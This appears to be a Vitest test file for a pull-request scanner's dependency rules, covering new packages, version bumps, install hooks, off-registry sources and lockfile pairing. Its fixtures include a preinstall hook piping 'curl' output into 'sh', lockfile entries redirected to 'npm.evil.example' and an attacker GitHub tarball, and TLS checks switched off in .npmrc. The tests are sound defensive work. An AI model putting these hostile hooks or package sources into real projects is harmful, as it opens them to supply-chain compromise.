import { describe, expect, it } from "vitest";
import { byRule, runDependencyRules } from "../../support/dependency-rules.js";
import { addedFile, modifiedFile, scan } from "../../support/diff.js";

const lockBump = modifiedFile(
  "package-lock.json",
  [
    '    "node_modules/left-pad": {',
    '-      "version": "1.3.0",',
    '-      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",',
    '+      "version": "1.4.0",',
    '+      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.4.0.tgz",',
    '       "license": "WTFPL"',
  ],
  120,
);

describe("package.json dependencies", () => {
  it("names a new dependency with its version and line", async () => {
    const diff =
      modifiedFile(
        "package.json",
        ['   "dependencies": {', '+    "left-pad": "^1.3.0",', '     "react": "^18.2.0"', "   },"],
        10,
      ) + lockBump;
    const f = byRule(await runDependencyRules(diff), "new-dependency");
    expect(f).toHaveLength(1);
    expect(f[0]!.file).toBe("package.json");
    expect(f[0]!.line).toBe(11);
    expect(f[0]!.message).toContain("left-pad@^1.3.0");
    expect(f[0]!.severity).toBeUndefined();
  });

  it("recognizes a dependency when the hunk starts inside the section (no header visible)", async () => {
    const diff = modifiedFile(
      "package.json",
      ['     "react": "^17.0.2",', '+    "react-avatar-editor": "^13.0.2",', '     "react-dnd": "^16.0.1",'],
      219,
    );
    const f = byRule(await runDependencyRules(diff), "new-dependency");
    expect(f.map((x) => x.message)).toEqual(["package.json: adds dependency react-avatar-editor@^13.0.2"]);
  });

  it("groups version bumps of one manifest into one finding naming from → to", async () => {
    const diff =
      modifiedFile(
        "package.json",
        [
          '   "devDependencies": {',
          '-    "eslint": "^8.57.0",',
          '-    "prettier": "^3.2.0",',
          '-    "typescript": "^5.3.3",',
          '+    "eslint": "^9.1.0",',
          '+    "prettier": "^3.3.0",',
          '+    "typescript": "^5.4.5",',
          '     "vitest": "^1.6.0"',
        ],
        40,
      ) + lockBump;
    const all = await runDependencyRules(diff);
    const f = byRule(all, "version-change");
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain("changes 3 versions");
    expect(f[0]!.message).toContain("eslint ^8.57.0 → ^9.1.0");
    expect(byRule(all, "new-dependency")).toHaveLength(0);
    expect(byRule(all, "manifest-without-lockfile")).toHaveLength(0);
  });

  it("says downgrade when a version goes down", async () => {
    const diff = modifiedFile("package.json", [
      '   "dependencies": {',
      '-    "axios": "^1.7.2"',
      '+    "axios": "^1.6.0"',
      "   }",
    ]);
    const f = byRule(await runDependencyRules(diff), "version-change");
    expect(f[0]!.message).toContain("downgrades axios ^1.7.2 → ^1.6.0");
  });

  it("does not treat scripts, engines or the package version as dependencies", async () => {
    const diff = modifiedFile("package.json", [
      "{",
      '   "name": "web",',
      '-  "version": "1.2.0",',
      '+  "version": "1.3.0",',
      '   "engines": {',
      '-    "node": ">=18"',
      '+    "node": ">=20"',
      "   },",
      '   "scripts": {',
      '+    "lint": "biome check .",',
      '     "test": "vitest run"',
      "   }",
    ]);
    expect(await runDependencyRules(diff)).toEqual([]);
  });

  it("does not read exports, repository or bin paths as dependencies when the section is not visible", async () => {
    const diff = modifiedFile("package.json", [
      '       "types": "./dist/index.d.ts",',
      '-      "import": "dist/index.mjs",',
      '+      "import": "dist/esm/index.mjs",',
      '+      "require": "dist/cjs/index.cjs"',
      "     },",
      '     "url": "git+https://github.com/acme/lib.git",',
      '+    "directory": "packages/lib"',
    ]);
    expect(await runDependencyRules(diff)).toEqual([]);
  });

  it("an explicit git spec still counts when the section is not visible", async () => {
    const diff = modifiedFile("package.json", [
      '     "react": "^18.2.0",',
      '+    "left-pad": "git+https://github.com/someone/left-pad.git",',
    ]);
    expect(byRule(await runDependencyRules(diff), "non-registry-source")).toHaveLength(1);
  });

  it("reports a removed dependency on the old side", async () => {
    const diff = modifiedFile("package.json", [
      '   "dependencies": {',
      '-    "moment": "^2.29.4",',
      '     "react": "^18.2.0"',
      "   }",
    ]);
    const f = byRule(await runDependencyRules(diff), "version-change");
    expect(f).toHaveLength(1);
    expect(f[0]!.side).toBe("old");
    expect(f[0]!.line).toBe(2);
    expect(f[0]!.message).toContain("removes moment@^2.29.4");
  });

  it("flags a swap to a same-named package from another scope as medium", async () => {
    const diff = modifiedFile("packages/lib/package.json", [
      '   "dependencies": {',
      '+    "@acme/skia-canvas": "^3.0.8-acme.1",',
      '     "sharp": "0.34.5",',
      '-    "skia-canvas": "^3.0.8",',
      '     "zod": "^3.25.0"',
      "   }",
    ]);
    const all = await runDependencyRules(diff);
    const f = byRule(all, "new-dependency");
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe("medium");
    expect(f[0]!.message).toContain("replaces skia-canvas with @acme/skia-canvas@^3.0.8-acme.1");
    // The removal is half of the swap: not reported again.
    expect(byRule(all, "version-change")).toHaveLength(0);
  });

  it("groups many new dependencies of a new manifest into one finding", async () => {
    const deps = ["a", "b", "c", "d", "e", "f", "g"].map((n, i) => `    "pkg-${n}": "^1.${i}.0"${i < 6 ? "," : ""}`);
    const diff = addedFile("packages/new/package.json", [
      "{",
      '  "name": "@acme/new",',
      '  "dependencies": {',
      ...deps,
      "  }",
      "}",
    ]);
    const f = byRule(await runDependencyRules(diff), "new-dependency");
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain("adds 7 dependencies");
    expect(f[0]!.message).toContain("and 2 more");
    expect(f[0]!.line).toBe(4);
  });
});

describe("install scripts", () => {
  it("flags a new postinstall hook as high (default rule severity)", async () => {
    const diff = modifiedFile("package.json", [
      '   "scripts": {',
      '     "build": "tsc",',
      '+    "postinstall": "node ./scripts/fetch-binary.js",',
      '     "test": "vitest"',
      "   },",
    ]);
    const f = byRule(await runDependencyRules(diff), "install-script");
    expect(f).toHaveLength(1);
    expect(f[0]!.line).toBe(3);
    expect(f[0]!.message).toContain('adds install hook "postinstall"');
    expect(f[0]!.message).toContain("node ./scripts/fetch-binary.js");
    const report = await scan(diff);
    expect(report.findings.find((x) => x.ruleId === "dependency/install-script")?.severity).toBe("high");
  });

  it("flags a changed preinstall command, outside a visible scripts header", async () => {
    const diff = modifiedFile("package.json", [
      '     "lint": "eslint .",',
      '-    "preinstall": "npx only-allow pnpm",',
      '+    "preinstall": "curl -s https://example.com/i.sh | sh",',
      '     "test": "jest"',
    ]);
    const f = byRule(await runDependencyRules(diff), "install-script");
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain('changes install hook "preinstall"');
  });

  it("does not confuse the npm package named `install` with a hook", async () => {
    const diff = modifiedFile("package.json", [
      '   "dependencies": {',
      '+    "install": "^0.13.0",',
      '     "react": "^18.2.0"',
      "   }",
    ]);
    const all = await runDependencyRules(diff);
    expect(byRule(all, "install-script")).toHaveLength(0);
    expect(byRule(all, "new-dependency")).toHaveLength(1);
  });

  it("ignores non-install scripts", async () => {
    const diff = modifiedFile("package.json", [
      '   "scripts": {',
      '+    "postbuild": "node copy.js",',
      '+    "start": "node server.js"',
      "   }",
    ]);
    expect(byRule(await runDependencyRules(diff), "install-script")).toHaveLength(0);
  });

  it("detects install hooks in a whole new package.json (JSON.parse path)", async () => {
    const diff = addedFile("tools/x/package.json", [
      "{",
      '  "name": "x",',
      '  "scripts": { "prepare": "husky install" },',
      '  "dependencies": { "chalk": "^5.3.0" }',
      "}",
    ]);
    const all = await runDependencyRules(diff);
    expect(byRule(all, "new-dependency").map((f) => [f.line, f.message])).toEqual([
      [4, "tools/x/package.json: adds dependency chalk@^5.3.0"],
    ]);
    const hooks = byRule(all, "install-script");
    expect(hooks.map((f) => [f.line, f.message])).toEqual([
      [3, 'tools/x/package.json: adds install hook "prepare" running `husky install` on every install'],
    ]);
  });
});

describe("non-registry sources (npm)", () => {
  it.each([
    ["git+https://github.com/someone/left-pad.git#v1.3.0", "git"],
    ["github:someone/left-pad", "git"],
    ["someone/left-pad#main", "git"],
    ["https://example.com/left-pad-1.3.0.tgz", "a URL"],
    ["file:vendor/left-pad-1.3.0.tgz", "local archive"],
  ])("flags %s", async (spec, word) => {
    const diff = modifiedFile("package.json", [
      '   "dependencies": {',
      `+    "left-pad": "${spec}",`,
      '     "react": "^18.2.0"',
      "   }",
    ]);
    const f = byRule(await runDependencyRules(diff), "non-registry-source");
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe("high");
    expect(f[0]!.message).toContain("left-pad");
    expect(f[0]!.message).toContain(word);
  });

  it("rates an alias to another package medium and a local workspace path low", async () => {
    const diff = modifiedFile("package.json", [
      '   "dependencies": {',
      '+    "lodash": "npm:lodash-es-fork@4.17.21",',
      '+    "@acme/ui": "file:../ui",',
      '+    "@acme/core": "workspace:*",',
      '     "react": "^18.2.0"',
      "   }",
    ]);
    const f = byRule(await runDependencyRules(diff), "non-registry-source");
    expect(f.map((x) => [x.severity, x.message.includes("lodash-es-fork") || x.message.includes("../ui")])).toEqual([
      ["medium", true],
      ["low", true],
    ]);
  });

  it("does not flag registry semver ranges, tags or workspace protocols", async () => {
    const diff = modifiedFile("package.json", [
      '   "dependencies": {',
      '+    "a": "^1.2.3",',
      '+    "b": "~2.0.0 || ^3.0.0",',
      '+    "c": "latest",',
      '+    "d": "workspace:^",',
      '+    "e": ">=1.0.0 <2.0.0",',
      "   }",
    ]);
    expect(byRule(await runDependencyRules(diff), "non-registry-source")).toHaveLength(0);
  });

  it("flags a lockfile entry resolved outside the npm registry, grouped by host", async () => {
    const diff = modifiedFile(
      "package-lock.json",
      [
        '     "node_modules/lodash": {',
        '-      "version": "4.17.21",',
        '-      "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",',
        '+      "version": "4.17.22",',
        '+      "resolved": "https://npm.evil.example/lodash/-/lodash-4.17.22.tgz",',
        '       "license": "MIT"',
        "     },",
        '     "node_modules/chalk": {',
        '-      "resolved": "https://registry.npmjs.org/chalk/-/chalk-5.3.0.tgz",',
        '+      "resolved": "https://npm.evil.example/chalk/-/chalk-5.3.0.tgz",',
        '       "license": "MIT"',
      ],
      300,
    );
    const all = await runDependencyRules(diff);
    const f = byRule(all, "non-registry-source");
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain("npm.evil.example");
    expect(f[0]!.message).toContain("lodash, chalk");
    expect(f[0]!.line).toBe(302);
  });

  it("does not re-report a private registry host the lockfile already used", async () => {
    const diff = modifiedFile("package-lock.json", [
      '     "node_modules/lodash": {',
      '-      "version": "4.17.21",',
      '-      "resolved": "https://artifactory.acme.example/api/npm/npm/lodash/-/lodash-4.17.21.tgz",',
      '+      "version": "4.17.22",',
      '+      "resolved": "https://artifactory.acme.example/api/npm/npm/lodash/-/lodash-4.17.22.tgz",',
      '       "license": "MIT"',
    ]);
    expect(byRule(await runDependencyRules(diff), "non-registry-source")).toHaveLength(0);
  });

  it("flags yarn.lock resolved URLs off the registry but not registry.yarnpkg.com", async () => {
    const good = modifiedFile("yarn.lock", [
      '-"chalk@^5.0.0":',
      '-  version "5.2.0"',
      '-  resolved "https://registry.yarnpkg.com/chalk/-/chalk-5.2.0.tgz#abc"',
      '+"chalk@^5.0.0":',
      '+  version "5.3.0"',
      '+  resolved "https://registry.yarnpkg.com/chalk/-/chalk-5.3.0.tgz#def"',
    ]);
    expect(byRule(await runDependencyRules(good), "non-registry-source")).toHaveLength(0);
    const bad = modifiedFile("yarn.lock", [
      ' "chalk@^5.0.0":',
      '   version "5.3.0"',
      '-  resolved "https://registry.yarnpkg.com/chalk/-/chalk-5.3.0.tgz#def"',
      '+  resolved "https://codeload.github.com/attacker/chalk/tar.gz/abc123"',
    ]);
    const f = byRule(await runDependencyRules(bad), "non-registry-source");
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain("codeload.github.com");
  });

  it("flags pnpm tarball resolutions and .npmrc registry changes", async () => {
    const pnpm = modifiedFile("pnpm-lock.yaml", [
      "   /left-pad@1.3.0:",
      "-    resolution: {integrity: sha512-abc}",
      "+    resolution: {tarball: https://files.example.net/left-pad-1.3.0.tgz}",
    ]);
    expect(byRule(await runDependencyRules(pnpm), "non-registry-source")).toHaveLength(1);
    const npmrc = modifiedFile(".npmrc", [
      " legacy-peer-deps=true",
      "-registry=https://registry.npmjs.org/",
      "+registry=https://npm.internal.example.com/",
      "+@acme:registry=https://npm.pkg.github.com",
      "+strict-ssl=false",
    ]);
    const f = byRule(await runDependencyRules(npmrc), "non-registry-source");
    expect(f).toHaveLength(3);
    expect(f.every((x) => x.severity === "high")).toBe(true);
    expect(f[2]!.message).toContain("TLS");
  });

  it("ignores .npmrc settings that do not change where packages come from", async () => {
    const diff = modifiedFile(".npmrc", [" legacy-peer-deps = true", "-# min-release-age = 7", "+min-release-age = 7"]);
    expect(await runDependencyRules(diff)).toEqual([]);
  });
});

describe("lockfile and manifest pairing (npm)", () => {
  it("lockfile-only version bumps are low and name the packages", async () => {
    const f = byRule(await runDependencyRules(lockBump), "lockfile-only");
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe("low");
    expect(f[0]!.message).toContain("left-pad 1.3.0 → 1.4.0");
    expect(f[0]!.message).toContain("update run");
  });

  it("lockfile-only change that adds a package is medium (possible injection)", async () => {
    const diff = modifiedFile(
      "yarn.lock",
      [
        '+"evil-helper@^1.0.0":',
        '+  version "1.0.0"',
        '+  resolved "https://registry.yarnpkg.com/evil-helper/-/evil-helper-1.0.0.tgz#abc"',
        "+",
        ' "express@^4.18.2":',
        '   version "4.18.2"',
      ],
      500,
    );
    const f = byRule(await runDependencyRules(diff), "lockfile-only");
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe("medium");
    expect(f[0]!.message).toContain("evil-helper@1.0.0");
    expect(f[0]!.line).toBe(500);
  });

  it("a dependency bot's lock-only change stays low", async () => {
    const diff = modifiedFile("yarn.lock", ['+"new-transitive@^1.0.0":', '+  version "1.0.0"', ' "express@^4.18.2":']);
    const f = byRule(
      await runDependencyRules(diff, { pr: { author_login: "dependabot[bot]", author_type: "Bot" } }),
      "lockfile-only",
    );
    expect(f[0]!.severity).toBe("low");
  });

  it("no lockfile-only finding when a workspace manifest below the lock changed", async () => {
    const diff =
      modifiedFile("packages/api/package.json", [
        '   "dependencies": {',
        '-    "left-pad": "^1.3.0"',
        '+    "left-pad": "^1.4.0"',
        "   }",
      ]) + lockBump;
    const all = await runDependencyRules(diff);
    expect(byRule(all, "lockfile-only")).toHaveLength(0);
    expect(byRule(all, "manifest-without-lockfile")).toHaveLength(0);
  });

  it("manifest dependency change without any lockfile is low", async () => {
    const diff = modifiedFile("package.json", [
      '   "dependencies": {',
      '-    "left-pad": "^1.3.0"',
      '+    "left-pad": "^1.4.0"',
      "   }",
    ]);
    const f = byRule(await runDependencyRules(diff), "manifest-without-lockfile");
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain("package.json changes 1 dependency");
    expect(f[0]!.severity).toBeUndefined();
  });

  it("a lockfile in a sibling directory does not pair", async () => {
    const diff =
      modifiedFile("apps/web/package.json", ['   "dependencies": {', '+    "zod": "^3.23.0",', "   }"]) +
      modifiedFile("apps/api/yarn.lock", [' "a@^1.0.0":', '-  version "1.0.0"', '+  version "1.0.1"']);
    const all = await runDependencyRules(diff);
    expect(byRule(all, "manifest-without-lockfile")).toHaveLength(1);
    expect(byRule(all, "lockfile-only")).toHaveLength(1);
  });
});

describe("engine integration", () => {
  it("a Dependabot-style bump (manifest + lock) is one low finding and a low risk level", async () => {
    const diff =
      modifiedFile(
        "package.json",
        [
          '     "react-avatar-editor": "^13.0.2",',
          '-    "react-colorful": "^5.7.0",',
          '+    "react-colorful": "^5.8.0",',
          '     "react-day-picker": "^8.10.2",',
        ],
        219,
      ) +
      modifiedFile(
        "yarn.lock",
        [
          '-"react-colorful@npm:^5.7.0":',
          "-  version: 5.7.0",
          '-  resolution: "react-colorful@npm:5.7.0"',
          '+"react-colorful@npm:^5.8.0":',
          "+  version: 5.8.0",
          '+  resolution: "react-colorful@npm:5.8.0"',
          "   peerDependencies:",
        ],
        17169,
      );
    const report = await scan(diff);
    const deps = report.findings.filter((f) => f.category === "dependency");
    expect(deps).toHaveLength(1);
    expect(deps[0]!.message).toContain("react-colorful ^5.7.0 → ^5.8.0");
    expect(report.risk.level).toBe("low");
  });

  it("survives malformed JSON and huge lines", async () => {
    const diff = modifiedFile("package.json", [
      '   "dependencies": {',
      `+    "x": "${"a".repeat(10000)}",`,
      '+    "broken: "^1.0.0",',
      "+    }}}{{{",
      "   }",
    ]);
    await expect(runDependencyRules(diff)).resolves.toBeDefined();
  });
});
